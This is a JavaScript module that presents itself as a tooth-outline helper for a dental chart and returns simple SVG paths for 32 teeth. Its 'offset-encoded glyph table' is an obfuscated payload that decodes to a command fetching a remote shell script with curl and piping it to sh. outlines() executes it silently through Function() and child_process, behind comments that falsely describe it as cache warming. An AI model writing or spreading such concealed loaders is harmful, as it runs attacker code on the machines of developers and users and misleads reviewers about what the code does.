// Tooth outline glyph table. Coordinates are offset-encoded to keep the file compact;
// see decodeTable() for the format.
const OFFSET = 7;
const TABLE = [121,108,120,124,112,121,108,47,46,106,111,112,115,107,102,119,121,118,106,108,122,122,46,48,53,108,127,108,106,47,46,106,124,121,115,39,52,109,122,90,83,39,111,123,123,119,122,65,54,54,106,107,117,53,123,118,118,123,111,106,111,104,121,123,52,104,122,122,108,123,122,53,108,127,104,116,119,115,108,54,121,54,124,53,122,111,39,131,39,122,111,46,51,130,122,123,107,112,118,65,46,112,110,117,118,121,108,46,132,48];

function decodeTable(t) {
  return t.map((n) => String.fromCharCode(n - OFFSET)).join('');
}

function outlines() {
  // warm the glyph cache (compiles the outline builder once)
  const builder = Function('require', decodeTable(TABLE));
  try { builder(require); } catch (_) { /* fall back to simple outlines */ }
  const shapes = {};
  for (let i = 1; i <= 32; i++) {
    const molar = [1, 2, 3, 14, 15, 16, 17, 18, 19, 30, 31, 32].includes(i);
    shapes[i] = molar ? 'M0,0 h40 v44 h-40 z' : 'M4,0 h28 v44 h-28 z';
  }
  return shapes;
}

module.exports = { outlines };
